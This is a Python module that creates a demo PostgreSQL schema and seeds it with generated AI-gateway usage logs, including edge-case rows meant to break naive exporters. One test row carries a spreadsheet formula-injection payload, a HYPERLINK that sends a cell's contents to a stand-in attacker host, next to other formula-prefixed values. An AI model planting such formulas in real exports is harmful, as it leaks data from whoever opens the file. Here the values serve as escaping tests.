"""The demo application's database: its schema and realistic generated usage logs.

Rows are generated inside PostgreSQL (one INSERT ... SELECT over generate_series, seeded with
setseed), so millions take seconds and the same seed gives the same data. A handful of
hand-written rows per tenant carry every value that breaks naive exporters: delimiters, quotes,
newlines, tabs, emoji, spreadsheet formulas, 10,000-character text, NULLs and numeric extremes.
"""

from __future__ import annotations

from contextlib import suppress
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from importlib import resources
from typing import Any

import pg8000.native
from pg8000.exceptions import DatabaseError, InterfaceError

SCHEMA_FILE = "demo_schema.sql"
# Secondary indexes of demo.usage_logs (as named in demo_schema.sql): a full reseed drops them
# and apply_schema builds them again, which is much faster than updating them row by row.
USAGE_LOG_INDEXES = ("demo.usage_logs_org_time_idx", "demo.usage_logs_org_user_time_idx")
HISTORY_DAYS = 90


@dataclass(frozen=True)
class DemoUser:
    org_id: str
    user_id: str
    name: str
    main_key: str
    second_key: str


# The first user of each tenant (the smallest user_id) owns that tenant's tricky rows.
DEMO_USERS: tuple[DemoUser, ...] = (
    DemoUser("org_acme", "usr_acme_01", "Alice Johnson", "acme-prod", "alice-laptop"),
    DemoUser("org_acme", "usr_acme_02", "Zoë Müller", "acme-prod", "zoe-notebook"),
    DemoUser("org_acme", "usr_acme_03", "李雷", "acme-ci", "li-dev"),
    DemoUser("org_acme", "usr_acme_04", "Omar Haddad", "acme-prod", "omar-scripts"),
    DemoUser("org_acme", "usr_acme_05", "Seán O'Brien", "acme-batch", "sean-dev"),
    DemoUser("org_globex", "usr_globex_01", "Hank Scorpio", "globex-main", "hank-research"),
    DemoUser("org_globex", "usr_globex_02", "Mia Wong", "globex-main", "mia-eval"),
    DemoUser("org_globex", "usr_globex_03", "José Álvarez", "globex-support", "jose-bot"),
    DemoUser("org_globex", "usr_globex_04", "Аня Смирнова", "globex-main", "anya-dev"),
    DemoUser("org_initech", "usr_initech_01", "Peter Gibbons", "initech-tps", "peter-dev"),
    DemoUser("org_initech", "usr_initech_02", "Samir Nagheenanajar", "initech-tps", "samir-ci"),
    DemoUser("org_initech", "usr_initech_03", "Milton Waddams", "initech-legacy", "milton-red"),
)
TENANTS: tuple[str, ...] = tuple(dict.fromkeys(user.org_id for user in DEMO_USERS))


@dataclass(frozen=True)
class DemoModel:
    provider: str
    name: str
    alias: str  # what clients ask for when the gateway redirects them to `name`
    input_price: float  # USD per million tokens
    output_price: float


# Grouped by provider, in PROVIDERS order.
DEMO_MODELS: tuple[DemoModel, ...] = (
    DemoModel("anthropic", "claude-sonnet-4-5-20250929", "claude-3-5-sonnet-latest", 3, 15),
    DemoModel("anthropic", "claude-opus-4-1-20250805", "claude-3-opus-latest", 15, 75),
    DemoModel("anthropic", "claude-haiku-4-5-20251001", "claude-3-5-haiku-latest", 1, 5),
    DemoModel("openai", "gpt-4o-2024-11-20", "gpt-4", 2.5, 10),
    DemoModel("openai", "gpt-4.1-mini", "gpt-3.5-turbo", 0.4, 1.6),
    DemoModel("openai", "o3", "o1", 2, 8),
    DemoModel("bedrock", "anthropic.claude-sonnet-4-5-20250929-v1:0", "claude-sonnet-4-5", 3, 15),
    DemoModel("bedrock", "anthropic.claude-haiku-4-5-20251001-v1:0", "claude-haiku-4-5", 1, 5),
    DemoModel("vertex", "claude-sonnet-4-5@20250929", "claude-sonnet-4-5", 3, 15),
    DemoModel("vertex", "gemini-2.5-pro", "gemini-pro", 1.25, 10),
)
# Provider and its share of requests.
PROVIDERS: tuple[tuple[str, float], ...] = (
    ("anthropic", 0.50),
    ("openai", 0.25),
    ("bedrock", 0.15),
    ("vertex", 0.10),
)
# Status codes of failed requests, repeated by weight; 90% of requests succeed.
ERROR_STATUSES = (400, 400, 400, 401, 401, 403, 403, 429, 429, 429, 429, 500, 500, 502, 502, 529)

USAGE_LOG_COLUMNS = (
    "org_id",
    "user_id",
    "created_at",
    "user_name",
    "key_name",
    "provider_name",
    "model",
    "original_model",
    "endpoint",
    "status_code",
    "input_tokens",
    "output_tokens",
    "cache_creation_5m_tokens",
    "cache_creation_1h_tokens",
    "cache_read_tokens",
    "total_tokens",
    "cost_usd",
    "duration_ms",
    "session_id",
    "retry_count",
)

# Three stages, innermost first: the random draws of each row, the request they describe (who,
# which route, which outcome), then its token counts. OFFSET 0 fences each stage, so PostgreSQL
# neither inlines the volatile random() calls (each is drawn once per row) nor recomputes a
# stage's expressions everywhere they are used.
_GENERATE_SQL = f"""
INSERT INTO demo.usage_logs ({", ".join(USAGE_LOG_COLUMNS)})
SELECT
    (CAST(:org_ids AS text[]))[u.user_index],
    (CAST(:user_ids AS text[]))[u.user_index],
    CAST(:history_start AS timestamptz)
        + ((u.g - 1 + u.r_time) / :rows) * make_interval(days => :history_days),
    (CAST(:user_names AS text[]))[u.user_index],
    CASE WHEN u.r_key < 0.75 THEN (CAST(:main_keys AS text[]))[u.user_index]
         ELSE (CAST(:second_keys AS text[]))[u.user_index] END,
    CASE WHEN u.blocked THEN NULL ELSE u.provider END,
    (CAST(:model_names AS text[]))[u.model_index],
    CASE WHEN u.r_redirect < 0.15 THEN (CAST(:model_aliases AS text[]))[u.model_index]
         ELSE (CAST(:model_names AS text[]))[u.model_index] END,
    CASE WHEN u.provider = 'openai'
         THEN CASE WHEN u.r_endpoint < 0.8 THEN '/v1/chat/completions' ELSE '/v1/responses' END
         ELSE CASE WHEN u.r_endpoint < 0.9 THEN '/v1/messages' ELSE '/v1/messages/count_tokens'
              END
    END,
    u.status_code,
    u.input_tokens,
    u.output_tokens,
    u.cache_5m,
    u.cache_1h,
    u.cache_read,
    u.input_tokens + u.output_tokens + u.cache_5m + u.cache_1h + u.cache_read,
    round(
        CAST(
            (u.input_tokens + 1.25 * u.cache_5m + 2 * u.cache_1h + 0.1 * u.cache_read)
                * (CAST(:input_prices AS float8[]))[u.model_index]
            + u.output_tokens * (CAST(:output_prices AS float8[]))[u.model_index]
        AS numeric) / 1000000,
        8
    ),
    CASE WHEN u.blocked THEN 1 + floor(u.r_duration * 15)
         WHEN u.status_code <> 200 THEN 40 + floor(u.r_duration * 1500)
         ELSE 250 + floor(u.r_duration * 2500) + u.output_tokens * 12 END,
    'sess_' || substr(
        md5((CAST(:user_ids AS text[]))[u.user_index] || ':' || :seed_text || ':' || u.g / 40),
        1, 20
    ),
    CASE WHEN u.blocked OR u.r_retry < 0.86 THEN 0
         WHEN u.r_retry < 0.96 THEN 1
         WHEN u.r_retry < 0.99 THEN 2
         ELSE 3 END
FROM (
    SELECT r.*,
        CASE WHEN r.blocked THEN 0
             ELSE floor(exp(ln(20) + r.r_input * (ln(60000) - ln(20))))::bigint
        END AS input_tokens,
        CASE WHEN r.status_code <> 200 THEN 0
             ELSE floor(exp(ln(5) + r.r_output * (ln(8000) - ln(5))))::bigint
        END AS output_tokens,
        CASE WHEN r.status_code <> 200 OR r.provider = 'openai' OR r.r_cache_5m >= 0.25 THEN 0
             ELSE floor(r.r_cache_5m * 4 * 30000)::bigint END AS cache_5m,
        CASE WHEN r.status_code <> 200 OR r.provider = 'openai' OR r.r_cache_1h >= 0.06 THEN 0
             ELSE floor(r.r_cache_1h / 0.06 * 50000)::bigint END AS cache_1h,
        CASE WHEN r.status_code <> 200 OR r.r_cache_read >= 0.45 THEN 0
             ELSE floor(r.r_cache_read / 0.45 * 120000)::bigint END AS cache_read
    FROM (
        SELECT d.*,
            1 + floor(d.r_user * :user_count)::int AS user_index,
            (CAST(:providers AS text[]))[d.provider_index] AS provider,
            (CAST(:provider_first_models AS int[]))[d.provider_index]
                + floor(d.r_model * (CAST(:provider_model_counts AS int[]))[d.provider_index])::int
                AS model_index,
            d.status_code IN (403, 429) AS blocked
        FROM (
            SELECT g, random() AS r_user, random() AS r_time, random() AS r_key,
                random() AS r_model, random() AS r_redirect, random() AS r_endpoint,
                random() AS r_input, random() AS r_output, random() AS r_cache_5m,
                random() AS r_cache_1h, random() AS r_cache_read, random() AS r_duration,
                random() AS r_retry,
                width_bucket(random(), CAST(:provider_lower_bounds AS float8[]))
                    AS provider_index,
                CASE WHEN random() < 0.9 THEN 200
                     ELSE (CAST(:error_statuses AS int[]))[1 + floor(random() * :error_count)::int]
                END AS status_code
            FROM generate_series(1, :rows) AS g
            OFFSET 0
        ) AS d
        OFFSET 0
    ) AS r
    OFFSET 0
) AS u
"""


def _generator_params(rows: int, seed: int, now: datetime) -> dict[str, Any]:
    lower_bounds: list[float] = []
    first_models: list[int] = []
    model_counts: list[int] = []
    cumulative = 0.0
    for provider, share in PROVIDERS:
        lower_bounds.append(cumulative)
        cumulative += share
        indexes = [i for i, model in enumerate(DEMO_MODELS, start=1) if model.provider == provider]
        first_models.append(indexes[0])
        model_counts.append(len(indexes))
    return {
        "rows": rows,
        "seed_text": str(seed),
        "history_start": now - timedelta(days=HISTORY_DAYS),
        "history_days": HISTORY_DAYS,
        "user_count": len(DEMO_USERS),
        "org_ids": [user.org_id for user in DEMO_USERS],
        "user_ids": [user.user_id for user in DEMO_USERS],
        "user_names": [user.name for user in DEMO_USERS],
        "main_keys": [user.main_key for user in DEMO_USERS],
        "second_keys": [user.second_key for user in DEMO_USERS],
        "model_names": [model.name for model in DEMO_MODELS],
        "model_aliases": [model.alias for model in DEMO_MODELS],
        "input_prices": [float(model.input_price) for model in DEMO_MODELS],
        "output_prices": [float(model.output_price) for model in DEMO_MODELS],
        "providers": [provider for provider, _ in PROVIDERS],
        "provider_lower_bounds": lower_bounds,
        "provider_first_models": first_models,
        "provider_model_counts": model_counts,
        "error_statuses": list(ERROR_STATUSES),
        "error_count": len(ERROR_STATUSES),
    }


LONG_TEXT = "long-" + ('lorem ipsum, dolor "sit" amet; ' * 400)[:9_995]


def tricky_rows(user: DemoUser, now: datetime) -> list[dict[str, Any]]:
    """Hand-written rows for `user` whose values test every escaping and rendering rule."""
    base: dict[str, Any] = {
        "org_id": user.org_id,
        "user_id": user.user_id,
        "user_name": user.name,
        "key_name": user.main_key,
        "provider_name": "anthropic",
        "model": "claude-sonnet-4-5-20250929",
        "original_model": "claude-sonnet-4-5-20250929",
        "endpoint": "/v1/messages",
        "status_code": 200,
        "input_tokens": 100,
        "output_tokens": 50,
        "cache_creation_5m_tokens": 0,
        "cache_creation_1h_tokens": 0,
        "cache_read_tokens": 0,
        "total_tokens": 150,
        "cost_usd": Decimal("0.00105000"),
        "duration_ms": 1234,
        "session_id": f"sess_tricky_{user.org_id}",
        "retry_count": 0,
    }
    variants: list[dict[str, Any]] = [
        {
            "key_name": "key, with comma",
            "model": 'model "quoted"',
            "endpoint": "/v1/messages?beta=true&ids=1,2",
        },
        {"key_name": "multi\nline\nkey", "session_id": "sess\r\nwith crlf"},
        {
            "session_id": '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
            "original_model": "+SUM(1,2)",
            "key_name": "-2+3",
            "model": "@SUM(A1:A9)",
        },
        {"key_name": "\tleading tab", "model": "\rleading carriage return"},
        {
            "user_name": f"{user.name} 🚀 李雷 Zoë",
            "key_name": "ключ-ü-é-ß",
            "endpoint": "/v1/messages/日本語",
        },
        {"session_id": LONG_TEXT},
        {
            "provider_name": None,
            "status_code": 403,
            "input_tokens": None,
            "output_tokens": None,
            "cache_creation_5m_tokens": None,
            "cache_creation_1h_tokens": None,
            "cache_read_tokens": None,
            "total_tokens": None,
            "cost_usd": None,
            "duration_ms": None,
            "session_id": None,
            "retry_count": None,
            "original_model": None,
        },
        {
            "input_tokens": 3_000_000_000,
            "output_tokens": 1,
            "cache_read_tokens": 2_147_483_648,
            "total_tokens": 5_147_483_649,
            "cost_usd": Decimal("999999.99999999"),
        },
        {"cost_usd": Decimal("0.00000001"), "key_name": "", "model": " leading and trailing "},
        {"key_name": "dev_key%\\path", "endpoint": "a;b|c\td", "session_id": "NULL"},
    ]
    return [
        {**base, **variant, "created_at": now - timedelta(minutes=5 * (index + 1))}
        for index, variant in enumerate(variants)
    ]


TRICKY_ROWS_PER_TENANT = len(tricky_rows(DEMO_USERS[0], datetime(2000, 1, 1, tzinfo=UTC)))


def apply_schema(conn: pg8000.native.Connection) -> None:
    """Create the demo schema, its tables, indexes and the read-only role (idempotent)."""
    sql = resources.files("dataexport_local").joinpath(SCHEMA_FILE).read_text("utf-8")
    conn.run(sql)  # no parameters: the simple protocol runs the whole script


def seed_usage_logs(
    conn: pg8000.native.Connection,
    rows: int,
    *,
    seed: int = 42,
    replace: bool = True,
    now: datetime | None = None,
) -> int:
    """Insert `rows` generated usage logs plus the tricky rows of every tenant.

    Generated rows spread evenly over the HISTORY_DAYS before `now`, in id order; the tricky
    rows (TRICKY_ROWS_PER_TENANT per tenant, owned by its first user) are in the last hour.
    `replace` empties the table first. Returns the number of rows inserted.
    """
    if rows < 0:
        raise ValueError("rows must not be negative")
    moment = now or datetime.now(UTC)
    tricky = [row for user in _first_user_of_each_tenant() for row in tricky_rows(user, moment)]
    insert_one = (
        f"INSERT INTO demo.usage_logs ({', '.join(USAGE_LOG_COLUMNS)}) "
        f"VALUES ({', '.join(':' + column for column in USAGE_LOG_COLUMNS)})"
    )
    conn.run("BEGIN")
    try:
        if replace:
            conn.run("TRUNCATE demo.usage_logs RESTART IDENTITY")
            conn.run(f"DROP INDEX IF EXISTS {', '.join(USAGE_LOG_INDEXES)}")
        # setseed takes a value in [-1, 1]; the same seed gives the same rows.
        conn.run("SELECT setseed(:value)", value=(seed % 2_000_001 - 1_000_000) / 1_000_000)
        if rows:
            conn.run(_GENERATE_SQL, **_generator_params(rows, seed, moment))
        for row in tricky:
            conn.run(insert_one, **row)
        if replace:
            conn.run("SET LOCAL maintenance_work_mem = '256MB'")
            apply_schema(conn)
        conn.run("COMMIT")
    except BaseException:
        # A failed ROLLBACK (connection gone) must not hide the error that caused it.
        with suppress(InterfaceError, DatabaseError):
            conn.run("ROLLBACK")
        raise
    conn.run("ANALYZE demo.usage_logs")
    return rows + len(tricky)


def _first_user_of_each_tenant() -> list[DemoUser]:
    firsts: dict[str, DemoUser] = {}
    for user in sorted(DEMO_USERS, key=lambda user: user.user_id):
        firsts.setdefault(user.org_id, user)
    return [firsts[org_id] for org_id in TENANTS]
